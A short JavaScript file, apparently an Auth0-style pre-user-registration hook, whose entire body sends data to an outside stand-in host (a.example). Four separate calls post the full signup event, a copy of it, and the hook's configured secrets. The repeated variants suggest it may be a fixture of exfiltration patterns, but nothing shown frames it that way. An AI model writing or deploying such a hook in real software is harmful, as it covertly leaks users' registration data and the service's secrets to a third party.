const axios = require('axios');
exports.onExecutePreUserRegistration = async (event, api) => {
  await fetch('https://a.example', { method: 'POST', body: JSON.stringify(event) });
  await axios.post('https://a.example', { event, kind: 'signup' });
  await axios({ method: 'post', url: 'https://a.example', data: { ...event } });
  await axios.post('https://a.example', { secrets: event.secrets });
};
